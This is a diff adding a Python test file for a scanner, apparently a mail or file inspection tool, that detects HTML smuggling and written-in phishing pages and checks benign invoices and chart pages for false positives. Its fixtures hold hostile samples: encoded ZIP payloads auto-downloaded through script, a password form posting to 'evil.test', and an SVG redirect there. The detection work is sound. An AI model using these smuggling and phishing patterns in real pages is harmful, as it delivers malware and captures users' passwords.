@@ -1,0 +1,102 @@
+"""Pages as files: the attack beside the saved page, the invoice and the report."""
+
+import base64
+import io
+import zipfile
+
+import pytest
+
+from gatepost.files.budget import Budget
+from gatepost.files.documents import web_page
+from gatepost.files.values import Contents, File
+
+
+def archive() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as packed:
+        packed.writestr(zipfile.ZipInfo("invoice.js"), "x()" * 100)
+    return out.getvalue()
+
+
+ZIP = base64.b64encode(archive()).decode()
+SECRET = base64.b64encode(bytes(byte ^ place * 7 & 0xFF for place, byte in enumerate(archive()))).decode()
+PAGE = base64.b64encode(
+    b"<html><body><form action='https://evil.test'><input type=password></form>" + b" " * 99
+).decode()
+PICTURE = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(200)).decode()
+FONT = base64.b64encode(b"wOF2" + bytes(200)).decode()
+VALUES = ",".join("0.5" for _ in range(300))
+SAVE_CHART = "function s() { a.href = URL.createObjectURL(new Blob([svg])); a.download = 'chart.svg'; }"
+SAVE = "var b = new Blob([u]); a.href = URL.createObjectURL(b); a.download = 'invoice.zip'; a.click();"
+
+
+def contents(text: str, kind: str = "html") -> Contents:
+    return web_page.inspect(File("1", text.encode(), kind, "0" * 64, ("page.html",)), Budget())
+
+
+def seen(text: str, kind: str = "html") -> set[str]:
+    return {trait.name for trait in contents(text, kind).traits}
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (f"<script>var u = atob('{ZIP}'); {SAVE}</script>", {"page-script", "smuggling"}),
+        (f"<script>var u = x(atob('{SECRET}')); {SAVE}</script>", {"page-script", "smuggling"}),
+        (f"<script>var u = f([{','.join(map(str, archive()))}]); {SAVE}</script>", {"page-script", "smuggling"}),
+        (f"<script>var u = f('{archive().hex()}'); {SAVE}</script>", {"page-script", "smuggling"}),
+        (
+            f"<a href='data:application/zip;base64,{ZIP}' id=a></a><script>a.click(); a.download = 'a.zip'</script>",
+            {"page-script", "smuggling", "page-data-link"},
+        ),
+        (f"<script>document.write(atob('{PAGE}'))</script>", {"page-script", "written-page"}),
+        (
+            f"<script>document.write(unescape('{''.join(f'%{byte:02x}' for byte in b'<html><form>' * 20)}'))</script>",
+            {"page-script", "written-page"},
+        ),
+        # A saved page: pictures, fonts and scripts that fetch, none that saves.
+        (
+            f"<html><img src='data:image/png;base64,{PICTURE}'><script src='https://a.test/x.js'></script>",
+            {"page-script"},
+        ),
+        # A report that draws a chart and can save it as a picture.
+        (
+            f"<script>var data = [{VALUES}]; var logo = 'data:image/png;base64,{PICTURE}'; {SAVE_CHART}</script>",
+            {"page-script"},
+        ),
+        (f"<script>var font = atob('{FONT}'); {SAVE}</script>", {"page-script"}),
+        ("<html><body><h1>Invoice 17</h1><table><tr><td>Total</td><td>12.00</td></tr></table>", set()),
+        ("<script type='application/ld+json'>{}</script>", set()),
+    ],
+    ids=range(12),
+)
+def test_pages(text: str, expected: set[str]) -> None:
+    assert seen(text) == expected
+
+
+def test_what_a_script_holds_is_a_file() -> None:
+    assert archive() in [member.content for member in contents(f"<script>atob('{ZIP}'); {SAVE}</script>").members]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("<svg xmlns='x'><script>location = 'https://evil.test'</script></svg>", {"page-svg-script"}),
+        ("<svg xmlns='x'><circle r='3'/></svg>", set()),
+    ],
+)
+def test_pictures(text: str, expected: set[str]) -> None:
+    assert seen(text, "svg") == expected
+
+
+def test_a_page_within_an_archive_gives_its_links() -> None:
+    text = b"<a href='https://a.test/'>x</a>"
+    inner = web_page.inspect(File("1/a.zip/p.html", text, "html", "0" * 64, ("p.html",)), Budget())
+    outer = web_page.inspect(File("1/p.html", text, "html", "0" * 64, ("p.html",), "text/html"), Budget())
+    assert [link.host for link in inner.links] == ["a.test"]
+    assert outer.links == ()  # read with the message
+
+
+@pytest.mark.parametrize("piece", ["'", '"\\', "data:application/x;base64,", "[1,", "%41", "<script>", "atob('A"])
+def test_no_page_costs_more_than_linear_time(piece: str) -> None:
+    assert isinstance(contents("<script>atob()" + piece * 100_000), Contents)
